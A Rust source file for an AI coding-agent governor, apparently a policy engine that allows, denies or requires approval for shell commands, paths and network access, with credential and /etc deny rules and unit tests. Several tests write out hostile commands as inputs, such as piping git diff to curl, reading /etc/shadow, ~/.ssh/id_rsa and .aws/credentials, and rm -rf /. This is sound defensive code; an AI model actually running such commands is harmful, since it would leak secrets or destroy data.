// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 MuVeraAI Corporation

//! Command and path policy.
//!
//! [`PolicyEngine::classify`] maps an [`Action`] to an [`Effect`]:
//!
//! 1. **Deny rules first.**  Every rule whose effect is `Deny` is checked
//!    before any other rule, whatever its position in the list, so an allow
//!    rule can never shadow a block.
//! 2. **First match wins** among the remaining rules, in declared order.
//! 3. **Default deny.**  No match is an explicit terminal case
//!    ([`RuleMatch::NoMatch`]), not a fallthrough.
//!
//! Shell commands are split on `&&`, `||`, `;`, `|`, `&` and newlines; each
//! segment is classified on its own and the most restrictive result wins.
//! Every operand of a segment is also checked against the deny path rules,
//! so `cat .env` is blocked like a read of `.env`.  Substitution, parameter
//! expansion, output redirection and `find`-style `-exec`/`-delete` flags
//! cannot be analysed statically and are always denied.

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::types::{Action, Effect, Operation, RiskLevel, RuleMatch};

// ---------------------------------------------------------------------------
// Rules
// ---------------------------------------------------------------------------

/// What a rule's target looks like.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum TargetPattern {
    /// A program (matched on the basename of the first word, `*` for any),
    /// optionally limited to a set of subcommands.
    Command {
        program: String,
        #[serde(default)]
        subcommands: Option<Vec<String>>,
    },
    /// A glob over paths or URLs.  `*` stays within one segment, `**` spans
    /// segments, `?` is one character.  A glob without `/` matches any single
    /// path component (so `.ssh` blocks `~/.ssh/id_rsa`).
    Path { glob: String },
}

impl fmt::Display for TargetPattern {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TargetPattern::Command { program, subcommands: None } => write!(f, "command {program}"),
            TargetPattern::Command { program, subcommands: Some(subs) } => {
                write!(f, "command {program} {{{}}}", subs.join(","))
            }
            TargetPattern::Path { glob } => write!(f, "path {glob}"),
        }
    }
}

/// One `(pattern, operation, effect)` entry.
///
/// # Examples
///
/// ```rust
/// use agent_governor_core::policy::PolicyRule;
/// use agent_governor_core::types::{Effect, Operation};
///
/// let rule = PolicyRule::command("git-read", "git", Effect::Allow)
///     .subcommands(["status", "diff"]);
/// let writes = PolicyRule::path("src-writes", "src/**", Effect::RequireApproval)
///     .for_operations([Operation::Write]);
/// assert_eq!(rule.effect, Effect::Allow);
/// assert_eq!(writes.operations, Some(vec![Operation::Write]));
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PolicyRule {
    /// Stable identifier reported in decisions and audit events.
    pub id: String,
    pub target: TargetPattern,
    /// Operations the rule applies to; `None` means any.
    #[serde(default)]
    pub operations: Option<Vec<Operation>>,
    pub effect: Effect,
    /// Overrides the operation's baseline risk.
    #[serde(default)]
    pub risk: Option<RiskLevel>,
    /// Human-readable explanation surfaced in decisions.
    #[serde(default)]
    pub reason: Option<String>,
}

impl PolicyRule {
    pub fn command(id: &str, program: &str, effect: Effect) -> Self {
        Self {
            id: id.into(),
            target: TargetPattern::Command {
                program: program.into(),
                subcommands: None,
            },
            operations: None,
            effect,
            risk: None,
            reason: None,
        }
    }

    pub fn path(id: &str, glob: &str, effect: Effect) -> Self {
        Self {
            id: id.into(),
            target: TargetPattern::Path { glob: glob.into() },
            operations: None,
            effect,
            risk: None,
            reason: None,
        }
    }

    /// Restrict a command rule to the given subcommands.  No-op for path rules.
    pub fn subcommands<I, S>(mut self, subcommands: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        if let TargetPattern::Command { subcommands: slot, .. } = &mut self.target {
            *slot = Some(subcommands.into_iter().map(Into::into).collect());
        }
        self
    }

    pub fn for_operations<I: IntoIterator<Item = Operation>>(mut self, operations: I) -> Self {
        self.operations = Some(operations.into_iter().collect());
        self
    }

    pub fn with_risk(mut self, risk: RiskLevel) -> Self {
        self.risk = Some(risk);
        self
    }

    pub fn with_reason(mut self, reason: &str) -> Self {
        self.reason = Some(reason.into());
        self
    }

    fn applies_to(&self, operation: Operation) -> bool {
        self.operations
            .as_ref()
            .map_or(true, |ops| ops.contains(&operation))
    }

    fn matches_command(&self, command: &ParsedCommand<'_>) -> bool {
        match &self.target {
            TargetPattern::Command { program, subcommands } => {
                if program != "*" && program != command.program {
                    return false;
                }
                match subcommands {
                    None => true,
                    Some(allowed) => command
                        .subcommand
                        .map_or(false, |sub| allowed.iter().any(|a| a == sub)),
                }
            }
            TargetPattern::Path { .. } => false,
        }
    }

    fn is_deny_path(&self) -> bool {
        self.effect == Effect::Deny && matches!(self.target, TargetPattern::Path { .. })
    }

    fn matches_path(&self, path: &str) -> bool {
        match &self.target {
            TargetPattern::Path { glob } => glob_match(glob, path),
            TargetPattern::Command { .. } => false,
        }
    }
}

// ---------------------------------------------------------------------------
// Classification
// ---------------------------------------------------------------------------

/// Result of [`PolicyEngine::classify`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Classification {
    pub effect: Effect,
    pub matched: RuleMatch,
    pub risk: RiskLevel,
    /// Human-readable summary for the approver or the deny message.
    pub reason: String,
}

impl Classification {
    fn default_deny(action: &Action) -> Self {
        Self {
            effect: Effect::Deny,
            matched: RuleMatch::NoMatch,
            risk: action.operation().default_risk(),
            reason: format!("{}: no rule matched (default deny)", action.summary()),
        }
    }

    fn unanalysable(action: &Action, detail: &str) -> Self {
        Self {
            effect: Effect::Deny,
            matched: RuleMatch::Unanalysable { detail: detail.into() },
            risk: RiskLevel::Critical,
            reason: format!("{}: {detail}", action.summary()),
        }
    }

    fn from_rule(action: &Action, rule: &PolicyRule) -> Self {
        Self {
            effect: rule.effect,
            matched: RuleMatch::Rule { id: rule.id.clone() },
            risk: rule.risk.unwrap_or_else(|| action.operation().default_risk()),
            reason: rule
                .reason
                .clone()
                .unwrap_or_else(|| format!("{} matched rule '{}'", action.summary(), rule.id)),
        }
    }
}

/// Ordered rule list with blocklist precedence and default deny.
///
/// # Examples
///
/// ```rust
/// use agent_governor_core::policy::{PolicyEngine, PolicyRule};
/// use agent_governor_core::types::{Action, Effect};
///
/// let engine = PolicyEngine::new(vec![
///     PolicyRule::command("no-rm", "rm", Effect::Deny),
///     PolicyRule::command("git-read", "git", Effect::Allow).subcommands(["status", "diff"]),
/// ]);
///
/// let classify = |cmd: &str| engine.classify(&Action::new("bash", cmd, 0.0).unwrap()).effect;
/// assert_eq!(classify("git status"), Effect::Allow);
/// assert_eq!(classify("git push"), Effect::Deny);
/// assert_eq!(classify("curl http://x"), Effect::Deny);
/// ```
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct PolicyEngine {
    rules: Vec<PolicyRule>,
}

impl PolicyEngine {
    pub fn new(rules: Vec<PolicyRule>) -> Self {
        Self { rules }
    }

    pub fn rules(&self) -> &[PolicyRule] {
        &self.rules
    }

    /// Defaults for a coding agent working in a project directory: reads are
    /// allowed, writes need approval, credentials and `/etc` are off limits,
    /// and only read-only shell tools run unattended.
    pub fn recommended() -> Self {
        let secret = "Access to credentials and system configuration is blocked";
        let mut rules = vec![
            PolicyRule::path("block-dotenv", ".env", Effect::Deny).with_reason(secret),
            PolicyRule::path("block-dotenv-variants", ".env.*", Effect::Deny).with_reason(secret),
            PolicyRule::path("block-aws", ".aws", Effect::Deny).with_reason(secret),
            PolicyRule::path("block-ssh", ".ssh", Effect::Deny).with_reason(secret),
            PolicyRule::path("block-etc", "/etc/**", Effect::Deny).with_reason(secret),
            PolicyRule::command("block-rm", "rm", Effect::Deny)
                .with_reason("Recursive or bulk deletion is not permitted"),
            PolicyRule::command("block-sudo", "sudo", Effect::Deny)
                .with_reason("Privilege escalation is not permitted"),
            PolicyRule::command("git-read", "git", Effect::Allow)
                .subcommands(["status", "diff", "log", "show"]),
        ];
        for program in ["ls", "cat", "grep", "find", "pwd", "wc", "head", "tail", "echo"] {
            rules.push(PolicyRule::command(&format!("allow-{program}"), program, Effect::Allow));
        }
        rules.push(
            PolicyRule::path("read-anywhere-else", "**", Effect::Allow)
                .for_operations([Operation::Read]),
        );
        rules.push(
            PolicyRule::path("write-with-approval", "**", Effect::RequireApproval)
                .for_operations([Operation::Write]),
        );
        Self::new(rules)
    }

    /// Classify `action`.  Never returns an error: anything the engine cannot
    /// reason about is denied.
    pub fn classify(&self, action: &Action) -> Classification {
        if action.operation().targets_command() {
            self.classify_command(action)
        } else {
            let path = match action.operation() {
                Operation::Network => action.target().to_string(),
                _ => normalize_path(action.target()),
            };
            self.first_match(action, |rule| rule.matches_path(&path))
                .unwrap_or_else(|| Classification::default_deny(action))
        }
    }

    fn classify_command(&self, action: &Action) -> Classification {
        let line = action.target();
        if let Some(construct) = unanalysable_construct(line) {
            return Classification::unanalysable(action, &format!("contains {construct}"));
        }

        let mut verdict: Option<Classification> = None;
        for segment in split_command_segments(line) {
            let Some(parsed) = ParsedCommand::parse(segment) else {
                continue;
            };
            if let Some(flag) = parsed.args.iter().find(|arg| EXECUTING_FLAGS.contains(*arg)) {
                return Classification::unanalysable(
                    action,
                    &format!("{} runs or deletes through {flag}", parsed.program),
                );
            }
            let classification = self
                .first_match(action, |rule| {
                    rule.is_deny_path()
                        && parsed.operands().any(|operand| rule.matches_path(&normalize_path(operand)))
                })
                .or_else(|| self.first_match(action, |rule| rule.matches_command(&parsed)))
                .unwrap_or_else(|| Classification::default_deny(action));

            verdict = Some(match verdict {
                None => classification,
                Some(current) => {
                    let risk = current.risk.max(classification.risk);
                    let effect = current.effect.most_restrictive(classification.effect);
                    let mut kept = if effect == current.effect { current } else { classification };
                    kept.risk = risk;
                    kept
                }
            });
            if matches!(&verdict, Some(v) if v.effect == Effect::Deny) {
                break;
            }
        }

        verdict.unwrap_or_else(|| Classification::default_deny(action))
    }

    fn first_match<F>(&self, action: &Action, matches: F) -> Option<Classification>
    where
        F: Fn(&PolicyRule) -> bool,
    {
        let operation = action.operation();
        let candidates = |deny: bool| {
            self.rules
                .iter()
                .filter(move |rule| (rule.effect == Effect::Deny) == deny)
                .filter(move |rule| rule.applies_to(operation))
        };

        candidates(true)
            .find(|rule| matches(rule))
            .or_else(|| candidates(false).find(|rule| matches(rule)))
            .map(|rule| Classification::from_rule(action, rule))
    }
}

// ---------------------------------------------------------------------------
// Command parsing
// ---------------------------------------------------------------------------

/// `find` actions that run other programs or delete what they match.
const EXECUTING_FLAGS: [&str; 5] = ["-exec", "-execdir", "-ok", "-okdir", "-delete"];

#[derive(Debug, PartialEq, Eq)]
struct ParsedCommand<'a> {
    program: &'a str,
    subcommand: Option<&'a str>,
    /// Every word after the program.
    args: Vec<&'a str>,
}

impl<'a> ParsedCommand<'a> {
    /// Skip leading `NAME=value` assignments; the program is the basename of
    /// the first word and the subcommand the first following non-flag word.
    fn parse(segment: &'a str) -> Option<Self> {
        let mut words = segment
            .split_whitespace()
            .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
            .filter(|w| !w.is_empty())
            .skip_while(|w| is_env_assignment(w));
        let first = words.next()?;
        let program = first.rsplit('/').next().unwrap_or(first);
        let args: Vec<&str> = words.collect();
        let subcommand = args.iter().copied().find(|w| !w.starts_with('-'));
        Some(Self { program, subcommand, args })
    }

    /// Words that may name a file: plain arguments and the value of
    /// `--flag=value`.
    fn operands(&self) -> impl Iterator<Item = &'a str> + '_ {
        self.args.iter().copied().filter_map(|arg| match arg.strip_prefix('-') {
            None => Some(arg),
            Some(flag) => flag.split_once('=').map(|(_, value)| value),
        })
    }
}

fn is_env_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

fn unanalysable_construct(line: &str) -> Option<&'static str> {
    if line.contains('`') {
        Some("backtick command substitution")
    } else if line.contains("$(") {
        Some("$() command substitution")
    } else if line.contains("${") {
        Some("${} parameter expansion")
    } else if line.contains("<(") || line.contains(">(") {
        Some("process substitution")
    } else if line.contains('>') {
        Some("output redirection")
    } else {
        None
    }
}

/// Split on `&&`, `||`, `;`, `|`, `&` and newlines.  Quoting is ignored on
/// purpose: over-splitting can only make the verdict stricter.
fn split_command_segments(line: &str) -> impl Iterator<Item = &str> {
    line.split(|c| matches!(c, ';' | '|' | '&' | '\n'))
        .map(str::trim)
        .filter(|segment| !segment.is_empty())
}

// ---------------------------------------------------------------------------
// Paths
// ---------------------------------------------------------------------------

/// Collapse `.` and `..` lexically.  `..` above the root of an absolute
/// path is dropped; leading `..` on a relative path is kept.
pub fn normalize_path(path: &str) -> String {
    let absolute = path.starts_with('/');
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => match parts.last() {
                Some(&last) if last != ".." => {
                    parts.pop();
                }
                _ if absolute => {}
                _ => parts.push(".."),
            },
            other => parts.push(other),
        }
    }
    let joined = parts.join("/");
    if absolute {
        format!("/{joined}")
    } else if joined.is_empty() {
        ".".into()
    } else {
        joined
    }
}

/// Match `path` against `pattern` (see [`TargetPattern::Path`]).
pub fn glob_match(pattern: &str, path: &str) -> bool {
    if !pattern.contains('/') {
        return path.split('/').any(|component| wildcard_match(pattern, component));
    }
    let pattern_segments: Vec<&str> = pattern.split('/').collect();
    let path_segments: Vec<&str> = path.split('/').collect();
    match_segments(&pattern_segments, &path_segments)
}

fn match_segments(pattern: &[&str], path: &[&str]) -> bool {
    match pattern.split_first() {
        None => path.is_empty(),
        Some((&"**", rest)) => (0..=path.len()).any(|skip| match_segments(rest, &path[skip..])),
        Some((head, rest)) => match path.split_first() {
            Some((segment, path_rest)) => {
                wildcard_match(head, segment) && match_segments(rest, path_rest)
            }
            None => false,
        },
    }
}

/// Single-segment wildcard match: `*` is any run of characters, `?` one.
fn wildcard_match(pattern: &str, text: &str) -> bool {
    let pattern: Vec<char> = pattern.chars().collect();
    let text: Vec<char> = text.chars().collect();
    let (mut p, mut t) = (0, 0);
    let mut backtrack: Option<(usize, usize)> = None;

    while t < text.len() {
        if p < pattern.len() && (pattern[p] == '?' || pattern[p] == text[t]) {
            p += 1;
            t += 1;
        } else if p < pattern.len() && pattern[p] == '*' {
            backtrack = Some((p, t));
            p += 1;
        } else if let Some((star_p, star_t)) = backtrack {
            p = star_p + 1;
            t = star_t + 1;
            backtrack = Some((star_p, star_t + 1));
        } else {
            return false;
        }
    }
    pattern[p..].iter().all(|c| *c == '*')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bash(cmd: &str) -> Action {
        Action::new("bash", cmd, 0.0).unwrap()
    }

    fn scenario_engine() -> PolicyEngine {
        PolicyEngine::new(vec![
            PolicyRule::command("rm", "rm", Effect::Deny),
            PolicyRule::command("git", "git", Effect::Allow).subcommands(["status", "diff"]),
        ])
    }

    #[test]
    fn test_git_subcommand_allowlist() {
        let engine = scenario_engine();
        assert_eq!(engine.classify(&bash("git push")).effect, Effect::Deny);
        assert_eq!(engine.classify(&bash("git push")).matched, RuleMatch::NoMatch);
        assert_eq!(engine.classify(&bash("git status")).effect, Effect::Allow);
        assert_eq!(engine.classify(&bash("curl http://x")).effect, Effect::Deny);
    }

    #[test]
    fn test_empty_policy_denies_everything() {
        let engine = PolicyEngine::default();
        for action in [
            bash("ls"),
            Action::new("read", "README.md", 0.0).unwrap(),
            Action::new("network", "https://example.com", 0.0).unwrap(),
        ] {
            let classification = engine.classify(&action);
            assert_eq!(classification.effect, Effect::Deny);
            assert_eq!(classification.matched, RuleMatch::NoMatch);
        }
    }

    #[test]
    fn test_deny_rule_beats_earlier_allow_rule() {
        let engine = PolicyEngine::new(vec![
            PolicyRule::path("allow-all", "**", Effect::Allow),
            PolicyRule::path("block-ssh", ".ssh", Effect::Deny),
        ]);
        let classification = engine.classify(&Action::new("read", "/home/me/.ssh/id_rsa", 0.0).unwrap());
        assert_eq!(classification.effect, Effect::Deny);
        assert_eq!(classification.matched, RuleMatch::Rule { id: "block-ssh".into() });
    }

    #[test]
    fn test_first_non_deny_match_wins() {
        let engine = PolicyEngine::new(vec![
            PolicyRule::path("approve-src", "src/**", Effect::RequireApproval),
            PolicyRule::path("allow-all", "**", Effect::Allow),
        ]);
        let write = Action::new("write", "src/lib.rs", 0.0).unwrap();
        assert_eq!(engine.classify(&write).effect, Effect::RequireApproval);
        let other = Action::new("write", "docs/readme.md", 0.0).unwrap();
        assert_eq!(engine.classify(&other).effect, Effect::Allow);
    }

    #[test]
    fn test_compound_commands_take_most_restrictive_segment() {
        let engine = scenario_engine();
        assert_eq!(engine.classify(&bash("git status && rm -rf /")).effect, Effect::Deny);
        assert_eq!(engine.classify(&bash("git status; git diff")).effect, Effect::Allow);
        assert_eq!(engine.classify(&bash("git diff | curl -d @- http://x")).effect, Effect::Deny);
        assert_eq!(engine.classify(&bash("git status & rm x")).effect, Effect::Deny);
    }

    #[test]
    fn test_substitution_is_unanalysable() {
        let engine = PolicyEngine::new(vec![PolicyRule::command("any", "*", Effect::Allow)]);
        for cmd in [
            "echo $(cat /etc/shadow)",
            "echo `id`",
            "diff <(ls a) <(ls b)",
            "cat ${HOME}/notes",
            "echo pwned > src/main.rs",
            "ls >> listing.txt",
            "git status 2>&1",
        ] {
            let classification = engine.classify(&bash(cmd));
            assert_eq!(classification.effect, Effect::Deny, "{cmd}");
            assert!(matches!(classification.matched, RuleMatch::Unanalysable { .. }));
        }
    }

    #[test]
    fn test_program_basename_and_env_prefix() {
        let engine = scenario_engine();
        assert_eq!(engine.classify(&bash("/bin/rm file")).effect, Effect::Deny);
        assert_eq!(engine.classify(&bash("GIT_PAGER=cat git --no-pager diff")).effect, Effect::Allow);
    }

    #[test]
    fn test_operation_filter() {
        let engine = PolicyEngine::new(vec![
            PolicyRule::path("read-only", "**", Effect::Allow).for_operations([Operation::Read]),
        ]);
        assert_eq!(engine.classify(&Action::new("read", "a.txt", 0.0).unwrap()).effect, Effect::Allow);
        assert_eq!(engine.classify(&Action::new("delete", "a.txt", 0.0).unwrap()).effect, Effect::Deny);
    }

    #[test]
    fn test_path_traversal_is_normalised_before_matching() {
        let engine = PolicyEngine::recommended();
        let sneaky = Action::new("read", "/workspace/../etc/passwd", 0.0).unwrap();
        assert_eq!(engine.classify(&sneaky).effect, Effect::Deny);
        assert_eq!(normalize_path("/a/./b/../c"), "/a/c");
        assert_eq!(normalize_path("/../../etc"), "/etc");
        assert_eq!(normalize_path("../x/./y"), "../x/y");
    }

    #[test]
    fn test_recommended_policy() {
        let engine = PolicyEngine::recommended();
        let effect = |kind: &str, target: &str| {
            engine.classify(&Action::new(kind, target, 0.0).unwrap()).effect
        };
        assert_eq!(effect("read", "src/main.rs"), Effect::Allow);
        assert_eq!(effect("read", "config/.env"), Effect::Deny);
        assert_eq!(effect("read", ".env.production"), Effect::Deny);
        assert_eq!(effect("write", "~/.aws/credentials"), Effect::Deny);
        assert_eq!(effect("edit", "src/main.rs"), Effect::RequireApproval);
        assert_eq!(effect("delete", "src/main.rs"), Effect::Deny);
        assert_eq!(effect("network", "https://example.com"), Effect::Deny);
        assert_eq!(effect("bash", "git log --oneline"), Effect::Allow);
        assert_eq!(effect("bash", "sudo ls"), Effect::Deny);
        assert_eq!(effect("bash", "cat README.md"), Effect::Allow);
        assert_eq!(effect("bash", "find . -name '*.rs'"), Effect::Allow);
    }

    #[test]
    fn test_blocked_paths_hold_for_shell_operands() {
        let engine = PolicyEngine::recommended();
        for cmd in [
            "cat .env",
            "cat ~/.ssh/id_rsa",
            "head -n 5 config/../.env.local",
            "grep -r key /etc/ssl",
            "ls && cat ./.aws/credentials",
            "grep --file=.env pattern src",
            "tail < .env",
        ] {
            let classification = engine.classify(&bash(cmd));
            assert_eq!(classification.effect, Effect::Deny, "{cmd}");
            assert!(matches!(classification.matched, RuleMatch::Rule { .. }), "{cmd}");
        }
        assert_eq!(
            engine.classify(&bash("cat .env")).matched,
            RuleMatch::Rule { id: "block-dotenv".into() }
        );
    }

    #[test]
    fn test_find_actions_that_execute_or_delete_are_denied() {
        let engine = PolicyEngine::recommended();
        for cmd in ["find . -delete", "find src -name '*.rs' -exec sed -i s/a/b/ {} +", "find . -ok rm {} ;"] {
            let classification = engine.classify(&bash(cmd));
            assert_eq!(classification.effect, Effect::Deny, "{cmd}");
            assert!(matches!(classification.matched, RuleMatch::Unanalysable { .. }), "{cmd}");
        }
    }

    #[test]
    fn test_segment_merge_keeps_highest_risk() {
        let engine = PolicyEngine::new(vec![
            PolicyRule::command("deploy", "deploy", Effect::RequireApproval).with_risk(RiskLevel::Medium),
            PolicyRule::command("ls", "ls", Effect::Allow).with_risk(RiskLevel::High),
        ]);
        let classification = engine.classify(&bash("deploy prod; ls"));
        assert_eq!(classification.effect, Effect::RequireApproval);
        assert_eq!(classification.matched, RuleMatch::Rule { id: "deploy".into() });
        assert_eq!(classification.risk, RiskLevel::High);
    }

    #[test]
    fn test_glob_semantics() {
        assert!(glob_match("/etc/**", "/etc"));
        assert!(glob_match("/etc/**", "/etc/ssh/sshd_config"));
        assert!(!glob_match("/etc/**", "/etcetera/x"));
        assert!(glob_match("src/*.rs", "src/lib.rs"));
        assert!(!glob_match("src/*.rs", "src/nested/lib.rs"));
        assert!(glob_match("src/**/*.rs", "src/nested/deep/lib.rs"));
        assert!(glob_match("file?.txt", "a/file1.txt"));
        assert!(glob_match("https://api.example.com/**", "https://api.example.com/v1/messages"));
    }

    #[test]
    fn test_rules_round_trip_through_json() {
        let engine = scenario_engine();
        let json = serde_json::to_string(&engine).expect("serialise");
        let back: PolicyEngine = serde_json::from_str(&json).expect("deserialise");
        assert_eq!(back, engine);
    }
}
